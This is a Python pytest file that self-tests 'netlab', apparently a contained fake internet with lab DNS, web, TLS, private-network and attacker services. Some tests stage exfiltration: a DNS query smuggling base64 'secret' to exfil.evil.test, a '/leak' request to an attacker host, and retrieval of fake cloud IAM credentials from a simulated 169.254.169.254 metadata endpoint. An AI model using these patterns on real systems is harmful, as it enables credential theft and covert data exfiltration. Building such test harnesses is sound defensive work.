"""Self-tests of the netlab fake internet, run from the host's root netns.

    cd /work/main && /usr/bin/python3 -m pytest -q -p no:cacheprovider tests/netlab
"""
import errno
import hashlib
import http.client
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import time

import pytest

from netlab import netlab as nl
from netlab.netlab import NetLab

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("ip") or not shutil.which("openssl"),
    reason="netlab needs root, iproute2 and openssl")

EXTRA_NAMES = {
    "api.allowed.test": "198.18.0.12",
    "anyip.other.test": "198.18.0.99",
    "big.allowed.test": {"TXT": [["%03d" % i + "y" * 200 for i in range(8)]]},
    "dual.test": ["198.18.0.50", "2001:db8:18::50"],
}


def host_state():
    """What the lab must leave untouched (or restore) in the root netns."""
    def run(*argv):
        return subprocess.run(argv, capture_output=True, text=True).stdout
    with open("/etc/resolv.conf", "rb") as f:
        resolv = hashlib.sha256(f.read()).hexdigest()
    with open("/proc/sys/net/ipv4/ip_forward") as f:
        fwd = f.read().strip()
    return {"routes": run("ip", "-4", "route", "show", "table", "all"),
            "routes6": run("ip", "-6", "route", "show", "table", "all"),
            "rules": run("ip", "rule"),
            "iptables": run("iptables", "-S") if shutil.which("iptables") else "",
            "links": sorted(l["ifname"] for l in json.loads(run("ip", "-j", "link", "show"))),
            "netns": sorted(n for n in run("ip", "netns", "list").split()
                            if n.startswith("fblab-")),
            "resolv": resolv, "ip_forward": fwd}


def lab_processes(workdir):
    """pids whose command line mentions the lab's work dir."""
    out = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                with open("/proc/%s/cmdline" % p, "rb") as f:
                    if workdir.encode() in f.read():
                        out.append(int(p))
            except OSError:
                pass
    return out


@pytest.fixture(scope="class")
def lab():
    before = host_state()
    with NetLab(names=EXTRA_NAMES) as lab:
        lab.host_state_before = before
        yield lab


@pytest.fixture
def fresh(lab):
    lab.clear_logs()
    return lab


class TestLab:
    # ------------------------------------------------------------ DNS
    @pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
    def test_dns_a(self, fresh, tcp):
        r = fresh.dns_query("allowed.test", "A", tcp=tcp)
        assert r.rcode_name == "NOERROR" and r.aa
        assert r.values("A") == ["198.18.0.10"]
        assert fresh.dns_query("api.allowed.test", tcp=tcp).values("A") == ["198.18.0.12"]
        recs = fresh.wait_log("dns", count=2)
        assert recs[0]["name"] == "allowed.test" and recs[0]["type"] == "A"
        assert recs[0]["transport"] == ("tcp" if tcp else "udp")
        assert recs[0]["client"] == fresh.upstream_host_ip

    @pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
    def test_dns_txt_aaaa_cname(self, fresh, tcp):
        assert fresh.dns_query("allowed.test", "TXT", tcp=tcp).values("TXT") == \
            [["netlab allowed.test"]]
        assert fresh.dns_query("allowed.test", "AAAA", tcp=tcp).values("AAAA") == \
            ["2001:db8:18::10"]
        r = fresh.dns_query("www.cdn.test", "A", tcp=tcp)
        assert r.values("CNAME") == ["cdn.test"] and r.values("A") == ["198.18.0.30"]
        r = fresh.dns_query("dual.test", "AAAA", tcp=tcp)
        assert r.values() == ["2001:db8:18::50"]

    @pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
    def test_dns_nxdomain_nodata_refused(self, fresh, tcp):
        r = fresh.dns_query("does-not-exist.allowed.test", "A", tcp=tcp)
        assert r.rcode_name == "NXDOMAIN" and r.aa and not r.answers
        assert [rr.type_name for rr in r.authority] == ["SOA"]
        r = fresh.dns_query("other.test", "AAAA", tcp=tcp)  # name exists, type does not
        assert r.rcode_name == "NOERROR" and not r.answers and r.authority
        r = fresh.dns_query("example.com", "A", tcp=tcp)   # not ours
        assert r.rcode_name == "REFUSED"

    def test_dns_edns_and_case(self, fresh):
        r = fresh.dns_query("AlLoWeD.TeSt", "A", edns=1232)
        assert r.edns_size == 1232 and r.values("A") == ["198.18.0.10"]
        assert r.questions[0][0] == "AlLoWeD.TeSt"   # question echoed as sent (0x20)

    def test_dns_truncation_then_tcp(self, fresh):
        r = fresh.dns_query("big.allowed.test", "TXT")
        assert r.tc and not r.answers
        r = fresh.dns_query("big.allowed.test", "TXT", tcp=True)
        assert not r.tc and len(r.values("TXT")[0]) == 8

    def test_dns_malformed_is_logged(self, fresh):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(3)
            bad = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05abc"  # cut short
            s.sendto(bad, (fresh.upstream_dns, 53))
            data = s.recv(512)
        assert data[:2] == b"\x12\x34" and data[3] & 0xF == 1  # FORMERR
        assert "malformed" in fresh.wait_log("dns")[0]["error"]

    def test_set_names(self, fresh):
        fresh.set_names({"rebind.allowed.test": "198.18.0.77"})
        assert fresh.dns_query("rebind.allowed.test").values("A") == ["198.18.0.77"]
        fresh.set_names({"rebind.allowed.test": fresh.metadata_ip})
        assert fresh.dns_query("rebind.allowed.test").values("A") == [fresh.metadata_ip]

    # ------------------------------------------------------- attacker
    @pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
    def test_evil_forwarded_to_attacker(self, fresh, tcp):
        assert fresh.attacker_queries() == []
        name = "c2VjcmV0.exfil.evil.test"
        r = fresh.dns_query(name, "TXT", tcp=tcp)
        assert r.rcode_name == "NOERROR"
        assert r.values("TXT") == [["netlab-attacker", "got=c2VjcmV0"]]
        q = fresh.attacker_queries()
        assert len(q) == 1
        assert q[0]["name"] == name and q[0]["type"] == "TXT"
        assert q[0]["client"] == fresh.upstream_dns   # arrived via the authoritative server
        assert q[0]["transport"] == ("tcp" if tcp else "udp")
        assert fresh.log("dns")[0]["forwarded_to"] == fresh.attacker_dns
        assert fresh.dns_query("www.evil.test", "A", tcp=tcp).values("A") == \
            [fresh.attacker_http_ip]

    def test_evil_referral_without_recursion(self, fresh):
        r = fresh.dns_query("x.evil.test", "A", rd=False)
        assert r.rcode_name == "NOERROR" and not r.aa and not r.answers
        assert [(rr.type_name, rr.value) for rr in r.authority] == [("NS", "ns.evil.test")]
        assert [(rr.name, rr.value) for rr in r.additional] == [("ns.evil.test",
                                                                 fresh.attacker_dns)]
        time.sleep(0.2)
        assert fresh.attacker_queries() == []

    def test_attacker_direct_and_quiet_otherwise(self, fresh):
        for name in ("allowed.test", "other.test", "nope.test"):
            fresh.dns_query(name)
        time.sleep(0.2)
        assert fresh.attacker_queries() == []       # "zero queries arrived" works
        r = fresh.dns_query("a.b.evil.test", "A", server=fresh.attacker_dns)
        assert r.aa and r.values("A") == [fresh.attacker_http_ip]
        q = fresh.attacker_queries()
        assert [(x["name"], x["client"]) for x in q] == [("a.b.evil.test",
                                                         fresh.upstream_host_ip)]
        status, _, body = fresh.http_request("GET", "www.evil.test", "/leak?d=1",
                                             ip=fresh.attacker_http_ip)
        assert status == 200 and b"netlab host: attacker" in body
        assert fresh.wait_log("attacker_http")[0]["path"] == "/leak?d=1"

    # ----------------------------------------------------------- HTTP
    def test_http_get(self, fresh):
        status, headers, body = fresh.http_request("GET", "allowed.test", "/some/path?q=1")
        assert status == 200 and headers["x-netlab-host"] == "web"
        text = body.decode()
        assert "netlab host: web" in text
        assert "host header: allowed.test" in text
        assert "path: /some/path?q=1" in text
        assert "local address: 198.18.0.10:80" in text
        rec = fresh.wait_log("http")[0]
        assert (rec["host"], rec["path"], rec["method"], rec["client"]) == \
            ("allowed.test", "/some/path?q=1", "GET", fresh.upstream_host_ip)
        # any address of the web /24 is served, e.g. one only named in the test's mapping
        _, _, body = fresh.http_request("GET", "anyip.other.test", "/")
        assert b"local address: 198.18.0.99:80" in body
        assert fresh.log("https") == []

    def test_http_stream_is_incremental(self, fresh):
        conn = http.client.HTTPConnection(fresh.http_ip, 80, timeout=10)
        t0 = time.monotonic()
        conn.request("GET", "/stream?chunks=5&interval=0.25", headers={"Host": "cdn.test"})
        resp = conn.getresponse()
        assert resp.getheader("Transfer-Encoding") == "chunked"
        arrivals, data = [], b""
        while True:
            piece = resp.read1(65536)
            if not piece:
                break
            data += piece
            arrivals.append(time.monotonic() - t0)
        conn.close()
        assert data.count(b"chunk ") == 5
        assert arrivals[-1] >= 0.9, arrivals                 # 4 intervals of 0.25 s
        assert arrivals[-1] - arrivals[0] >= 0.6, arrivals   # not buffered to the end
        assert len(arrivals) >= 3

    def test_http_echo_and_misc(self, fresh):
        payload = os.urandom(3000)
        status, headers, body = fresh.http_request(
            "POST", "allowed.test", "/echo", body=payload,
            headers={"Content-Type": "application/x-test"})
        assert status == 200 and body == payload
        assert headers["content-type"] == "application/x-test"
        assert fresh.wait_log("http")[0]["body_len"] == 3000
        assert fresh.http_request("GET", "allowed.test", "/status/503")[0] == 503
        assert len(fresh.http_request("GET", "allowed.test", "/bytes/100000")[2]) == 100000

    # ---------------------------------------------------------- HTTPS
    @pytest.mark.parametrize("name", ["allowed.test", "www.allowed.test", "other.test",
                                      "www.cdn.test"])
    def test_https_sni_verified(self, fresh, name):
        status, _, body = fresh.http_request("GET", name, "/tls", https=True)
        assert status == 200
        assert ("sni: %s" % name).encode() in body and b"scheme: https" in body
        rec = fresh.wait_log("https")[0]
        assert rec["sni"] == name and rec["host"] == name

    def test_https_name_not_in_cert_fails(self, fresh):
        with pytest.raises(ssl.SSLCertVerificationError) as e:
            fresh.http_request("GET", "notincert.test", "/", https=True)
        assert "notincert.test" in str(e.value) or "match" in str(e.value)
        rec = fresh.wait_log("https")[0]
        assert rec["event"] == "tls-error" and rec["sni"] == "notincert.test"
        assert not [r for r in fresh.log("https") if r.get("method")]

    def test_https_untrusted_without_lab_ca(self, fresh):
        ctx = ssl.create_default_context(cafile=None, capath=None, cadata=None)
        ctx.load_verify_locations(cadata=_other_ca_pem())
        with socket.create_connection((fresh.https_ip, 443), timeout=5) as s:
            with pytest.raises(ssl.SSLCertVerificationError):
                ctx.wrap_socket(s, server_hostname="allowed.test")
        with open(fresh.ca_file) as f:
            assert "BEGIN CERTIFICATE" in f.read()

    # ------------------------------------------------------- metadata
    def test_metadata(self, fresh):
        assert fresh.log("metadata") == []
        path = "/latest/meta-data/iam/security-credentials/"
        status, _, body = fresh.http_request("GET", "x", path, ip=fresh.metadata_ip)
        assert status == 200 and body.decode() == nl.METADATA_ROLE
        status, headers, body = fresh.http_request("GET", "169.254.169.254",
                                                   path + nl.METADATA_ROLE,
                                                   ip=fresh.metadata_ip)
        doc = json.loads(body)
        assert doc["SecretAccessKey"] == nl.METADATA_SECRET
        assert doc["AccessKeyId"] == nl.METADATA_ACCESS_KEY
        status, _, token = fresh.http_request("PUT", "169.254.169.254", "/latest/api/token",
                                              ip=fresh.metadata_ip,
                                              headers={"X-aws-ec2-metadata-token-ttl-seconds":
                                                       "60"})
        assert token.decode() == nl.METADATA_TOKEN
        gcp = "/computeMetadata/v1/instance/service-accounts/default/token"
        assert fresh.http_request("GET", "metadata.google.internal", gcp,
                                  ip=fresh.metadata_ip)[0] == 403
        status, _, body = fresh.http_request("GET", "metadata.google.internal", gcp,
                                             ip=fresh.metadata_ip,
                                             headers={"Metadata-Flavor": "Google"})
        assert status == 200 and nl.METADATA_SECRET in body.decode()
        recs = fresh.wait_log("metadata", count=5)
        assert [r["path"] for r in recs][:2] == [path, path + nl.METADATA_ROLE]
        assert all(r["client"] == fresh.upstream_host_ip for r in recs)
        # the name in the lab's DNS points at it, too
        assert fresh.dns_query("metadata.test").values("A") == [fresh.metadata_ip]

    # ------------------------------------------------------- private
    @pytest.mark.parametrize("which", [0, 1], ids=["10/8", "192.168/16"])
    def test_private_listeners(self, fresh, which):
        ip = fresh.private_ips[which]
        service = ["private10", "private192"][which]
        assert fresh.log(service) == []
        for port in (22, 443, 8080):
            with socket.create_connection((ip, port), timeout=5) as s:
                s.settimeout(5)
                assert s.recv(100).decode().startswith("netlab %s port %d" % (service, port))
                s.sendall(b"hello %d\n" % port)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.sendto(b"udp-probe", (ip, 53))
        recs = fresh.wait_log(service, count=7)
        connects = [r for r in recs if r["event"] == "connect"]
        assert sorted(r["local_port"] for r in connects) == [22, 443, 8080]
        assert all(r["client"] == fresh.upstream_host_ip and r["local"] == ip for r in connects)
        data = {r["local_port"]: r["head"] for r in recs if r["event"] == "data"}
        assert data == {22: "hello 22\n", 443: "hello 443\n", 8080: "hello 8080\n"}
        assert [r["head"] for r in recs if r["event"] == "datagram"] == ["udp-probe"]
        other = ["private10", "private192"][1 - which]
        assert fresh.log(other) == []

    def test_closed_port_and_unassigned_address(self, fresh):
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection((fresh.private_ips[0], 9), timeout=5)
        with pytest.raises(OSError) as e:                 # routed into the lab, not out
            socket.create_connection(("198.19.7.7", 80), timeout=5)
        assert e.value.errno in (errno.EHOSTUNREACH, errno.ENETUNREACH)

    # --------------------------------------------------- containment
    def test_lab_hosts_cannot_open_connections_out(self, fresh):
        if not fresh.egress_guard:
            pytest.skip("iptables unavailable in the lab router")
        code = ("import socket,sys\n"
                "try:\n socket.create_connection((%r, 9), timeout=3)\n"
                "except OSError as e:\n print(e.errno)\n" % fresh.upstream_host_ip)
        p = fresh.exec("web", [sys.executable, "-I", "-c", code], capture_output=True, text=True)
        assert p.stdout.strip() == str(errno.EHOSTUNREACH), p.stdout + p.stderr

    def test_host_untouched_while_running(self, lab):
        now, before = host_state(), lab.host_state_before
        for key in ("resolv", "ip_forward", "rules", "routes6", "iptables"):
            assert now[key] == before[key], key
        default = [l for l in now["routes"].splitlines() if l.startswith("default")]
        assert default == [l for l in before["routes"].splitlines() if l.startswith("default")]
        added = sorted(set(now["routes"].splitlines()) - set(before["routes"].splitlines()))
        assert all(lab.upstream_if in l for l in added), added
        assert set(now["links"]) - set(before["links"]) == {lab.upstream_if}
        assert sorted(set(lab.namespaces.values())) == \
            sorted(set(now["netns"]) - set(before["netns"]))

    def test_second_lab_waits_and_leaves_this_one_alone(self, fresh):
        tests_dir = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
        code = ("import sys\nsys.path.insert(0, %r)\nfrom netlab import NetLab, NetLabError\n"
                "try:\n NetLab(lock_timeout=0.5).start()\n"
                "except NetLabError as e:\n print('refused:', e)\n" % tests_dir)
        p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                           timeout=60)
        assert "refused: another netlab is running" in p.stdout, p.stdout + p.stderr
        assert fresh.dns_query("allowed.test").values("A") == ["198.18.0.10"]
        assert set(fresh.namespaces.values()) <= set(host_state()["netns"])

    def test_zero_records_after_clear(self, fresh):
        time.sleep(0.2)
        assert {s: fresh.log(s) for s in fresh.services} == {s: [] for s in fresh.services}


def _other_ca_pem():
    """A CA that did not sign the lab certificate."""
    d = tempfile.mkdtemp(prefix="netlab-test-")
    try:
        subprocess.run(["openssl", "req", "-x509", "-new", "-newkey", "ec", "-pkeyopt",
                        "ec_paramgen_curve:prime256v1", "-nodes", "-keyout", d + "/k",
                        "-out", d + "/c", "-days", "1", "-subj", "/CN=not the lab"],
                       check=True, capture_output=True)
        with open(d + "/c") as f:
            return f.read()
    finally:
        shutil.rmtree(d, ignore_errors=True)


# ------------------------------------------------------------- teardown
def test_teardown_leaves_nothing():
    before = host_state()
    lab = NetLab()
    lab.start()
    pids = list(lab.pids().values())
    workdir, link, prefix = lab.workdir, lab.upstream_if, lab.prefix
    assert len(pids) == 8 and all(os.path.exists("/proc/%d" % p) for p in pids)
    assert lab_processes(workdir)
    lab.stop()
    lab.stop()  # idempotent
    after = host_state()
    assert after == before
    assert not [n for n in after["netns"] if n.startswith(prefix)]
    assert link not in after["links"]
    assert link not in after["routes"]
    assert not [p for p in pids if os.path.exists("/proc/%d" % p)]
    assert not lab_processes(workdir)
    assert not os.path.exists(workdir)


def test_start_failure_cleans_up(monkeypatch):
    before = host_state()
    lab = NetLab()
    monkeypatch.setattr(lab, "_start_services",
                        lambda: (_ for _ in ()).throw(nl.NetLabError("injected")))
    with pytest.raises(nl.NetLabError, match="injected"):
        lab.start()
    assert host_state() == before


def test_leftovers_of_a_crashed_run_are_removed():
    """A lab whose owner was SIGKILLed is cleaned up by the next start()."""
    before = host_state()
    tests_dir = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    code = ("import os, sys\nsys.path.insert(0, %r)\nfrom netlab import NetLab\n"
            "lab = NetLab(); lab.start()\nprint(lab.workdir, flush=True)\n"
            "os.kill(os.getpid(), 9)\n" % tests_dir)
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert p.returncode == -signal.SIGKILL, p.stderr
    dead_workdir = p.stdout.strip()
    left = host_state()
    stale_ns = [n for n in left["netns"] if n not in before["netns"]]
    assert len(stale_ns) == 7 and os.path.isdir(dead_workdir)
    dead = stale_ns[0].split("-")[1]
    assert "fbl%su" % dead in left["links"]
    with NetLab() as lab:
        now = host_state()
        assert not [n for n in now["netns"] if n.startswith("fblab-%s-" % dead)]
        assert "fbl%su" % dead not in now["links"]
        assert not os.path.exists(dead_workdir)
        assert not lab_processes(dead_workdir)
        assert lab.dns_query("allowed.test").values("A") == ["198.18.0.10"]
    assert host_state() == before
